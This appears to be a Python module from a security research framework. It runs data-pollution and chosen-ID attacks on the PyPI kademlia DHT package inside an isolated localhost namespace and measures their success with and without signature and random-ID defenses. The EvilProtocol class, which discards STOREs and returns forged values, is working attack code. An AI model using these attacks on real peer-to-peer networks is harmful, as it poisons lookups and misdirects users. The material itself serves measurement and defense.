"""Attacks against a third-party overlay: the PyPI `kademlia` package (asyncio, UDP).

Kademlia as that package implements it has no authentication and lets every node choose its own
160-bit ID; a STORE from anyone overwrites the value, and a reader takes the most common of the
first values its crawl finds. So the draft's figure 6 attacks apply as they are:

- `kademlia_pollution`: honest peers bootstrap, a writer stores a value for a key, then one attacker
  node (an ordinary member) stores a forged value for the same key. Measured: share of honest
  readers whose `get` returns the forged value. The `signatures` defense is the application's own
  check (values carry an Ed25519 signature of the key's owner and readers drop what fails it): the
  forged value is then never accepted, and the reads it displaced fail instead.
- `kademlia_chosen_id`: `attackers` nodes pick IDs next to the key's digest (XOR distance 1, 2,
  ...) before joining, so they are the key's closest nodes; they accept STOREs and discard them,
  and answer FIND_VALUE for the key with a forged value. Measured: share of the key's k storage
  nodes they hold, and share of readers that get the forged value or nothing. The `enrollment`
  defense stands for server-assigned random IDs: the same number of attacker nodes with random IDs.

All peers run in one asyncio loop in a thread inside a namespace this run creates (`LiveNetwork`,
one node), each on its own UDP port of 127.0.0.1 there; traffic never leaves the namespace. The run
is bounded by `budget_seconds`; attacker nodes stop answering after `budget_packets` replies.
"""

from __future__ import annotations

import asyncio
import logging
import random
import time
from typing import Any

from threatlab.errors import LiveError, ParamError

__all__ = ["kademlia_available", "kademlia_chosen_id", "kademlia_pollution", "live_kademlia_chosen_id",
           "live_kademlia_pollution"]

BASE_PORT = 20000
HOST = "127.0.0.1"
KEY = "sip:alice@threatlab.example"
HONEST = "sip:alice@192.0.2.10"
FORGED = "sip:attacker@198.51.100.66"


def kademlia_available() -> str | None:
    """None when the `kademlia` package imports, else the reason it does not."""
    try:
        import kademlia.network  # noqa: F401
    except ImportError as e:
        return f"the kademlia package is not installed ({e}); pip install 'kademlia>=2.2.3,<3'"
    return None


def _require() -> None:
    reason = kademlia_available()
    if reason:
        raise LiveError(reason)


# -- signed values (the application-level defense) ----------------------------------------------------


class _Signer:
    def __init__(self) -> None:
        from cryptography.hazmat.primitives.asymmetric import ed25519

        self.key = ed25519.Ed25519PrivateKey.generate()
        self.pub = self.key.public_key()

    def wrap(self, key: str, value: str) -> str:
        return value + "|" + self.key.sign(f"{key}\0{value}".encode()).hex()

    def check(self, key: str, stored: str | None) -> str | None:
        from cryptography.exceptions import InvalidSignature

        if not isinstance(stored, str) or "|" not in stored:
            return None
        value, _, sig = stored.rpartition("|")
        try:
            self.pub.verify(bytes.fromhex(sig), f"{key}\0{value}".encode())
        except (InvalidSignature, ValueError):
            return None
        return value


# -- the experiments ---------------------------------------------------------------------------------


async def _start(n: int, ksize: int, ids: list[bytes | None], server_cls=None) -> list:
    from kademlia.network import Server

    servers = []
    for i in range(n):
        s = (server_cls or Server)(ksize=ksize, node_id=ids[i])
        await s.listen(BASE_PORT + i, interface=HOST)
        servers.append(s)
    return servers


async def _bootstrap(servers: list, first_port: int = BASE_PORT) -> float:
    t0 = time.monotonic()
    await asyncio.gather(*(s.bootstrap([(HOST, first_port)]) for s in servers[1:]))
    return time.monotonic() - t0


def _stop(servers: list) -> None:
    for s in servers:
        s.stop()


async def _pollution(n_peers: int, signed: bool, ksize: int, budget_packets: int) -> dict[str, Any]:
    servers = await _start(n_peers + 1, ksize, [None] * (n_peers + 1))
    try:
        bootstrap_s = await _bootstrap(servers)
        honest, attacker = servers[:n_peers], servers[n_peers]
        signer = _Signer()
        await honest[1].set(KEY, signer.wrap(KEY, HONEST) if signed else HONEST)
        before = await asyncio.gather(*(s.get(KEY) for s in honest[2:]))
        # the attacker signs nothing it could not: it has no key of alice's; a forged value it wraps
        # with its own signature fails the reader's check
        forged_value = _Signer().wrap(KEY, FORGED) if signed else FORGED
        sent = 0
        if budget_packets > 0:
            await attacker.set(KEY, forged_value)
            sent = 2 * ksize  # a node crawl and one STORE per closest node, at most
        readers = honest[2:]
        raw = await asyncio.gather(*(s.get(KEY) for s in readers))
        if signed:
            got = [signer.check(KEY, v) for v in raw]
        else:
            got = raw
        forged = sum(v == FORGED for v in got)
        ok = sum(v == HONEST for v in got)
        honest_before = sum((signer.check(KEY, v) if signed else v) == HONEST for v in before)
        return {
            "peers": n_peers,
            "attackers": 1,
            "ksize": ksize,
            "bootstrap_s": round(bootstrap_s, 3),
            "readers": len(readers),
            "honest_reads_before_attack": honest_before,
            "forged_reads": forged,
            "honest_reads": ok,
            "failed_reads": len(readers) - forged - ok,
            "polluted_read_rate": round(forged / len(readers), 4),
            "success_rate": round(forged / len(readers), 4),
            "attacker_messages_max": sent,
        }
    finally:
        _stop(servers)


def _attacker_server_cls(target: bytes, budget: list[int]):
    """A kademlia Server whose protocol discards STOREs and answers FIND_VALUE for `target` with the
    forged value (within the reply budget)."""
    from kademlia.network import Server
    from kademlia.protocol import KademliaProtocol

    class EvilProtocol(KademliaProtocol):
        def rpc_store(self, sender, nodeid, key, value):  # accept and discard
            return True

        def rpc_find_value(self, sender, nodeid, key):
            if key == target and budget[0] > 0:
                budget[0] -= 1
                return {"value": FORGED}
            return self.rpc_find_node(sender, nodeid, key)

    class EvilServer(Server):
        protocol_class = EvilProtocol

    return EvilServer


async def _chosen_id(n_peers: int, attackers: int, chosen: bool, ksize: int, budget_packets: int) -> dict:
    from kademlia.network import Server
    from kademlia.node import Node
    from kademlia.utils import digest

    dkey = digest(KEY)
    target = int.from_bytes(dkey, "big")
    rng = random.Random(1)
    if chosen:  # the IDs closest to the key there are: XOR distance 1, 2, ...
        evil_ids = [(target ^ (i + 1)).to_bytes(20, "big") for i in range(attackers)]
    else:  # server-assigned random IDs
        evil_ids = [rng.getrandbits(160).to_bytes(20, "big") for _ in range(attackers)]
    budget = [budget_packets]
    honest = await _start(n_peers, ksize, [None] * n_peers)
    evil_cls = _attacker_server_cls(dkey, budget)
    evil = []
    try:
        for j, nid in enumerate(evil_ids):
            s = evil_cls(ksize=ksize, node_id=nid)
            await s.listen(BASE_PORT + n_peers + j, interface=HOST)
            evil.append(s)
        everyone = honest + evil
        bootstrap_s = await _bootstrap(everyone)
        await honest[1].set(KEY, HONEST)
        # who holds the key: the k closest nodes to it among all members
        evil_set = {s.node.id for s in evil}
        keynode = Node(dkey)
        closest = sorted(everyone, key=lambda s: s.node.distance_to(keynode))[:ksize]
        captured = sum(s.node.id in evil_set for s in closest)
        honest_copies = sum(s.storage.get(dkey) == HONEST for s in honest)
        readers = honest[2:]
        got = await asyncio.gather(*(s.get(KEY) for s in readers))
        forged = sum(v == FORGED for v in got)
        ok = sum(v == HONEST for v in got)
        return {
            "peers": n_peers,
            "attackers": attackers,
            "chosen_ids": chosen,
            "ksize": ksize,
            "bootstrap_s": round(bootstrap_s, 3),
            "closest_nodes_captured": captured,
            "storage_capture_rate": round(captured / ksize, 4),
            "honest_copies_stored": honest_copies,
            "readers": len(readers),
            "forged_reads": forged,
            "honest_reads": ok,
            "failed_reads": len(readers) - forged - ok,
            "lookup_capture_rate": round((len(readers) - ok) / len(readers), 4),
            "success_rate": round((len(readers) - ok) / len(readers), 4),
            "attacker_messages": budget_packets - budget[0],
        }
    finally:
        _stop(honest + evil)


def _in_namespace(coro_fn, budget_seconds: float) -> dict:
    """Run `coro_fn()` in a fresh event loop in a thread inside a one-node namespace of this run."""
    from threatlab.live.namespaces import LiveNetwork, require_root
    from threatlab.net.topology import Node, Topology

    _require()
    require_root()
    topo = Topology(segments=(), nodes=(Node("kad", ()),), name="kademlia-live")
    logging.getLogger("kademlia").setLevel(logging.CRITICAL)
    logging.getLogger("rpcudp").setLevel(logging.CRITICAL)

    def body() -> dict:
        async def bounded() -> dict:
            try:
                return await asyncio.wait_for(coro_fn(), timeout=budget_seconds)
            except asyncio.TimeoutError:
                raise LiveError(f"the kademlia run did not finish within {budget_seconds} s") from None

        return asyncio.run(bounded())

    t0 = time.monotonic()
    with LiveNetwork(topo) as net:
        net.exec("kad", ["ip", "link", "set", "lo", "up"], check=True)
        out = net.call_in("kad", body)
        out["namespace"] = net.namespace("kad")
    out["wall_s"] = round(time.monotonic() - t0, 2)
    return out


def _check(n_peers: int, ksize: int) -> None:
    if not 4 <= n_peers <= 2000:
        raise ParamError(f"peers={n_peers}: allowed: 4..2000")
    if not 1 <= ksize <= 64:
        raise ParamError(f"ksize={ksize}: allowed: 1..64")


def kademlia_pollution(n_peers: int = 50, *, signed: bool = False, ksize: int = 20,
                       budget_packets: int = 10_000, budget_seconds: float = 30.0) -> dict[str, Any]:
    _check(n_peers, ksize)
    return _in_namespace(lambda: _pollution(n_peers, signed, ksize, budget_packets), budget_seconds)


def kademlia_chosen_id(n_peers: int = 50, attackers: int = 5, *, chosen: bool = True, ksize: int = 20,
                       budget_packets: int = 10_000, budget_seconds: float = 30.0) -> dict[str, Any]:
    _check(n_peers, ksize)
    if not 1 <= attackers <= n_peers:
        raise ParamError(f"attackers={attackers}: allowed: 1..peers")
    return _in_namespace(lambda: _chosen_id(n_peers, attackers, chosen, ksize, budget_packets), budget_seconds)


# -- catalogue hooks -----------------------------------------------------------------------------------


def live_kademlia_pollution(params, defenses, *, budget_packets: int, budget_seconds: float) -> dict:
    """Data pollution against PyPI kademlia; defense `signatures` = readers check the owner's signature."""
    return kademlia_pollution(int(params.get("peers", 50)), signed="signatures" in defenses,
                              ksize=int(params.get("ksize", 20)), budget_packets=budget_packets,
                              budget_seconds=budget_seconds)


def live_kademlia_chosen_id(params, defenses, *, budget_packets: int, budget_seconds: float) -> dict:
    """Chosen-ID attack against PyPI kademlia; defense `enrollment` = the attackers' IDs are random."""
    return kademlia_chosen_id(int(params.get("peers", 50)), int(params.get("attackers", 5)),
                              chosen="enrollment" not in defenses, ksize=int(params.get("ksize", 20)),
                              budget_packets=budget_packets, budget_seconds=budget_seconds)
